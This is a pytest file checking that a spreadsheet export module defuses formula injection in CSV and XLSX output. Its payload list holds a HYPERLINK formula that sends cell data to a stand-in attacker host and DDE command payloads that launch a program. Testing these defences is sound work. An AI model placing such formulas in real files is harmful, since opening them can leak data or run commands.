"""Exports defuse spreadsheet formulas: the six payload shapes come out inert in CSV and XLSX."""
from __future__ import annotations

import csv
import io
from datetime import date

import pandas as pd
import pytest
from openpyxl import load_workbook

from core import safe_export

PAYLOADS = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _frame():
    return pd.DataFrame({
        "客户 Customer": PAYLOADS,
        "amount": [1.5, -2.0, 3, 4, 5, 6],
        "since": [date(2026, 1, i + 1) for i in range(6)],
        "=header": ["plain", "also plain", "a-b", "x@y", "", None],
    })


def test_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe():
    rows = list(csv.reader(io.StringIO(safe_export.to_csv_bytes(_frame()).decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    assert header[3] == "'=header"
    assert [r[0] for r in body] == ["'" + p for p in PAYLOADS]
    assert [r[1] for r in body][:2] == ["1.5", "-2.0"]  # numbers are not text: left alone
    assert [r[3] for r in body][:4] == ["plain", "also plain", "a-b", "x@y"]


def test_xlsx_has_no_formula_cells_and_keeps_numbers_and_dates_typed():
    workbook = load_workbook(io.BytesIO(safe_export.to_xlsx_bytes({"Customers": _frame()})))
    sheet = workbook["Customers"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [sheet.cell(row=r, column=1).value for r in range(2, 8)]
    # (XML turns a stored CR into LF on reading; what matters is the leading apostrophe)
    assert [t.replace("\n", "\r") for t in texts] == ["'" + p for p in PAYLOADS]
    assert sheet.cell(row=3, column=2).value == -2.0 and sheet.cell(row=3, column=2).data_type == "n"
    assert sheet.cell(row=2, column=3).value.date() == date(2026, 1, 1)


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@a", "\tx", "\rx"])
def test_each_dangerous_first_character_is_neutralised(value):
    assert safe_export.neutralise(value) == "'" + value


def test_harmless_text_is_unchanged():
    assert safe_export.neutralise("Acme 公司 - Shanghai") == "Acme 公司 - Shanghai"
    assert safe_export.neutralise(-3) == -3


def test_sheet_names_are_made_valid():
    data = safe_export.to_xlsx_bytes({"a/b:c?" * 10: pd.DataFrame({"x": [1]})})
    assert load_workbook(io.BytesIO(data)).sheetnames[0] == ("a_b_c_" * 10)[:31]
